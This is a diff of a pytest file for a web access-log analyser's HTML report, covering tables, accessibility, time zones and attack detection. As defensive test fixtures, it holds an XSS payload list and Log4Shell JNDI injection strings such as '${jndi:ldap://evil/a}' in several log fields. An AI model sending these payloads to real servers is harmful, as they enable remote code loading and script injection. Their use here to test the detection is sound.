@@ -6,8 +6,10 @@ import re
 from collections.abc import Iterator
 from datetime import UTC, datetime, timedelta
 from html.parser import HTMLParser
+from itertools import pairwise
 from pathlib import Path
 from typing import Any
+from zoneinfo import ZoneInfo
 
 import pytest
 
@@ -24,8 +26,9 @@ from fasturl.cli.report.page import POLICY, TABLES, Report, safe
 from fasturl.cli.summary.summary import FoundThen, Moment, summarized
 
 VOID = {"meta", "link"}
-IN_CHARTS = {"svg", "title", "g", "path", "line", "text", "rect", "tspan"}
+IN_CHARTS = {"svg", "title", "desc", "g", "path", "line", "text", "rect", "tspan"}
 TAGS = {"html", "head", "title", "style", "body", "header", "h1", "h2", "h3", "p", "b", "i", "a", "div", "section"}
+TAGS |= {"main", "nav", "ul", "li", "caption", "thead", "tbody"}
 TAGS |= {"span", "data", "table", "tr", "th", "td", "code", "footer", *VOID, *IN_CHARTS}
 PAYLOADS = [
     b"<script>alert(1)</script>",
@@ -66,7 +69,7 @@ class Page(HTMLParser):
             self._rows = self.tables.setdefault(held["id"], [])
         elif tag == "tr":
             self._rows.append([])
-        elif tag == "td":
+        elif tag == "td" or (tag == "th" and "tbody" in self.open):
             self._rows[-1].append("")
         elif tag == "data" and "td" in self.open:
             self._rows[-1][-1] = held["value"]
@@ -81,17 +84,18 @@ class Page(HTMLParser):
 
     def handle_data(self, data: str) -> None:
         self.text += data
-        if "td" in self.open and "data" not in self.open:
+        if "tbody" in self.open and {"td", "th"} & {*self.open} and "data" not in self.open:
             self._rows[-1][-1] += data
 
     def handle_comment(self, data: str) -> None:
         self.comments.append(data)
 
 
-def report(*paths: Path, top: int = 10, docs: str | None = None, **options: Any) -> str:
+def report(*paths: Path, top: int = 10, docs: str | None = None, zone: ZoneInfo | None = None, **options: Any) -> str:
     reading = Reading(InputOptions(paths=tuple(map(str, paths)), progress=False, threads=1, **options))
-    with summarized(reading, TABLES, command="report", examples=3) as summary:
-        return Report(summary, [str(path) for path in paths], top=top, docs=docs).html()
+    with summarized(reading, TABLES, command="report", examples=3, zone=zone) as summary:
+        formats = [f"{Path(each.name).name}: {reading.format_of(each)}" for each in reading.sources]
+        return Report(summary, [str(path) for path in paths], top=top, docs=docs, formats=formats, zone=zone).html()
 
 
 def line(target: bytes = b"/", hour: int = 10, status: bytes = b"200", size: bytes = b"7", **fields: bytes) -> bytes:
@@ -123,21 +127,23 @@ def test_the_report_shows_the_numbers_of_the_summary(tmp_path: Path) -> None:
         + line(b"/users/8/photo.jpg?a=2&b=3", hour=11, status=b"404", size=b"90", client=b"192.0.2.2")
         + line(b"/users/8/photo.jpg", hour=30)  # not a valid hour
         + line(b"/%0d", referer=b"http://u:hidden@other.site.co.uk/")
+        + line(b"/users/9")
         + b"torn line\n"
     )
     page = Page(report(log))
     with summarized(Reading(InputOptions(paths=(str(log),), progress=False)), TABLES, command="t") as summary:
         totals = summary.totals()
-        for name in set(TABLES) - {"finding", "referer_finding"}:
+        for name in set(TABLES) - {"finding", "referer_finding", "attack", "duration"}:
             rows = [[row.key.decode(), str(row.count), str(row.size)] for row in summary.top(name, 10)]
             assert page.tables.get(name, [[]])[1:] == rows, name
-    assert page.totals == [totals["urls"], totals["size"], totals["invalid"], totals["referers"], totals["rejected"]]
-    assert page.totals == [4, 111, 0, 2, 1]
-    assert page.tables["path_template"][1:] == [
-        ["/users/{n}/photo.jpg", "2", "97"],
-        ["/%0d", "1", "7"],
-        ["/users/{n}", "1", "7"],
-    ]
+    errors = totals["client_errors"] + totals["server_errors"]
+    assert page.totals == [totals["urls"], totals["clients"], errors, totals["size"], totals["rejected"]]
+    assert page.totals == [5, 2, 1, 118, 1]
+    # /users/8/photo.jpg is one path, which its template does not merge with another.
+    assert page.tables["path_kind"][1:] == [["/users/{n}", "2", "14"]]
+    assert [row[0] for row in page.tables["static"][1:]] == ["/users/8/photo.jpg"]
+    assert [row[0] for row in page.tables["page"][1:]] == ["/%0d", "/users/7", "/users/9"]
+    assert page.tables["not_found"][1:] == [["/users/8/photo.jpg", "1", "90"]] and "server_error" not in page.tables
     assert page.tables["referer_domain"][1:] == [["site.co.uk", "2", "14"]]
     assert "Not in the charts: 1 request without a time." in page.text
     assert "An escaped control character. A hazard, RFC 1738 section 6: 1 request." in page.text
@@ -150,10 +156,10 @@ def test_the_report_shows_the_numbers_of_stats(tmp_path: Path, capfd: pytest.Cap
     page = Page(report(log))
     assert app.call(["stats", "-q", "--json", *(f"-t{name}" for name in (*TABLES, "total")), str(log)]) == 0
     told = json.loads(capfd.readouterr().out)
-    assert page.totals == [told[name] for name in ("urls", "size", "invalid", "rejected")]
-    for name in page.tables:
+    assert page.totals == [told["urls"], told["clients"], told["client_errors"], told["size"], told["rejected"]]
+    for name in {*page.tables} - {"referer_finding"}:
         assert {key: int(count) for key, count, _ in page.tables[name][1:]} == told[name], name
-    assert set(page.tables) >= {"path", "path_template", "query_key", "client", "agent", "status", "method"}
+    assert set(page.tables) >= {"page", "path_kind", "query_key", "client", "agent", "status", "method"}
     requests = {re.search(r"(\d+) requests?\.", held)[1] for held in re.findall(r"section 6: [^<]*", page.text)}
     assert requests == {str(told["findings"]["ENCODED_CONTROL"])}
 
@@ -161,7 +167,7 @@ def test_the_report_shows_the_numbers_of_stats(tmp_path: Path, capfd: pytest.Cap
 def test_top_sets_the_number_of_rows(tmp_path: Path) -> None:
     log = tmp_path / "access.log"
     log.write_bytes(b"".join(line(b"/%d" % number) * (20 - number) for number in range(12)))
-    rows = Page(report(log, top=3)).tables["path"]
+    rows = Page(report(log, top=3)).tables["page"]
     assert [row[:2] for row in rows[1:]] == [["/0", "20"], ["/1", "19"], ["/2", "18"]]
 
 
@@ -175,12 +181,12 @@ def test_no_byte_of_a_log_becomes_markup(tmp_path: Path) -> None:
     for tag, attributes in page.tags:
         assert not any(name.startswith("on") or name in ("src", "srcset", "xlink:href") for name in attributes), tag
         assert re.fullmatch(
-            r"(#finding-|https://docs\.example/findings/#)[a-z_0-9]+|data:,|", attributes.get("href", "")
+            r"(#(finding-)?|https://docs\.example/findings/#)[a-z_0-9]+|data:,|", attributes.get("href", "")
         )
         assert re.fullmatch(r"(background-size:[\d.]+% 100%)?", attributes.get("style") or "") or tag in IN_CHARTS
     assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\ud800-\udfff]", html)
     # The markup is in the page as text.
-    paths = {row[0] for row in page.tables["path"][1:]}
+    paths = {row[0] for name in ("page", "static") for row in page.tables.get(name, [])[1:]}
     agents = {row[0] for row in page.tables["agent"][1:]}
     for payload in PAYLOADS[:-1]:
         assert any(payload.decode().partition("?")[0] in path for path in paths), payload
@@ -247,7 +253,7 @@ def test_inputs_without_requests_or_times_make_a_page(
     log.write_bytes(octets)
     page = Page(report(log, **options))
     assert told in page.text
-    assert "over time" not in page.text and not any(tag == "svg" for tag, _ in page.tags)
+    assert "Requests over time" not in page.text and not any(tag == "svg" for tag, _ in page.tags)
     assert "client" not in page.tables
 
 
@@ -255,7 +261,7 @@ def test_each_finding_links_to_its_page(tmp_path: Path) -> None:
     log = tmp_path / "access.log"
     log.write_bytes(line(b"/%252e%252e/") + line(b"/a b"))
     hrefs = [held["href"] for tag, held in Page(report(log, docs="/docs/")).tags if tag == "a"]
-    assert hrefs == [
+    assert [href for href in hrefs if "-" in href or "/" in href or "_" in href] == [
         "#finding-double_encoded",
         "/docs/findings/#double_encoded",
         "#finding-unsafe",
@@ -339,3 +345,63 @@ def test_every_finding_has_a_section(tmp_path: Path) -> None:
     page = Page(report(log, log_format="URLS"))
     boxes = {held["id"] for tag, held in page.tags if tag == "div" and (held.get("id") or "").startswith("finding-")}
     assert boxes == {f"finding-{str(finding.name).lower()}" for finding in Finding}
+
+
+def test_the_page_has_landmarks_captions_and_descriptions(tmp_path: Path) -> None:
+    log = tmp_path / "access.log"
+    log.write_bytes(
+        b"".join(line(b"/%d" % n, hour=n % 3, status=b"500" if n == 4 else b"200", size=b"900") for n in range(9))
+        + line(referer=b"http://r/%zz")
+    )
+    page = Page(report(log))
+    tags = [tag for tag, _ in page.tags]
+    assert tags.count("main") == tags.count("nav") == tags.count("header") == tags.count("footer") == 1
+    assert tags.count("table") == tags.count("caption") == tags.count("thead") == tags.count("tbody")
+    assert all(held.get("scope") in ("col", "row") for tag, held in page.tags if tag == "th")
+    ids = [held["id"] for _, held in page.tags if held.get("id")]
+    links = [held["href"] for tag, held in page.tags if tag == "a"]
+    assert len(ids) == len({*ids}) and {link[1:] for link in links} <= {*ids}
+    headings = [tag for tag in tags if tag in ("h1", "h2", "h3")]
+    assert headings[0] == "h1" and "h1" not in headings[1:]
+    assert tags.count("desc") == tags.count("svg") == 4
+    told = "Total 10 requests. Peak 3 in the hour of 17 May 2015, 00:00. "
+    assert told + "Worst hour: 17 May 2015, 01:00, with 1 requests of errors." in page.text
+    # The errors come first, the findings of referrers last.
+    sections = [held["id"] for tag, held in page.tags if tag == "section"]
+    assert sections[0] == "errors" and sections[-1] == "referrers"
+    assert page.tables["referer_finding"][1][:2] == ["BAD_ESCAPE", "1"] and "finding-bad_escape" not in ids
+
+
+def test_the_end_names_format_zone_and_rejects(tmp_path: Path) -> None:
+    log = tmp_path / "access.log"
+    log.write_bytes(line(b"/a") + b"".join(b"torn %d http://u:pw@h/\n" % n for n in range(5)) + line(hour=23))
+    page = Page(report(log, zone=ZoneInfo("Asia/Kathmandu"), log_format="COMBINED"))
+    assert "access.log: COMBINED" in page.text and "Hours and days are those of Asia/Kathmandu." in page.text
+    assert "From 17 May 2015, 15:50:03 to 18 May 2015, 04:50:03, Asia/Kathmandu." in page.text
+    rejects = page.text.partition("First rejected lines")[2]
+    assert [f"torn {n} http://u:***@h/ access.log:{n + 2}" in rejects for n in range(4)] == [True] * 3 + [False]
+    assert [row[0] for row in page.tables["hour"][1:]] == ["04", "15"]
+
+
+def test_attacks_are_found_in_any_field(tmp_path: Path) -> None:
+    log = tmp_path / "access.log"
+    attacks = (
+        line(b"/?x=${jndi:ldap://evil/a}"), line(b"/%24%7BJNDI%3aldap"), line(b"/%2524%257bjndi%253A"),
+        line(agent=b"${jNdi:dns://x}"), line(referer=b"http://r/${jndi:rmi}"), line(user=b"${jndi:x}"),
+    )  # fmt: skip
+    log.write_bytes(b"".join(attacks) + line(b"/jndi:x") + line(b"/${jndi}") + line(agent=b"jndi:"))
+    page = Page(report(log, log_format="COMBINED"))
+    assert "attacks" in [held.get("id") for _, held in page.tags]
+    assert "6 requests." in page.text.partition("CVE-2021-44228")[2]
+    assert "${jndi:ldap://evil/a}" in page.text
+    log.write_bytes(line())
+    assert "JNDI" not in report(log)
+
+
+def test_labels_of_years_have_room() -> None:
+    steps = charts.steps_of([START, START + timedelta(days=4000)])
+    assert steps is not None
+    svg = charts.over_time([Moment(START, 2, 1, 1), Moment(steps.last, 2, 1, 1)], steps, "count", "told")["wide"]
+    labels = re.findall(r'translate\(([\d.]+),[\d.]+\)"[^>]*>([A-Z][a-z]{2} \d{4})<', svg)
+    places = sorted(float(x) for x, _ in labels)
+    assert 2 <= len(labels) <= 8 and min(b - a for a, b in pairwise(places)) > 80
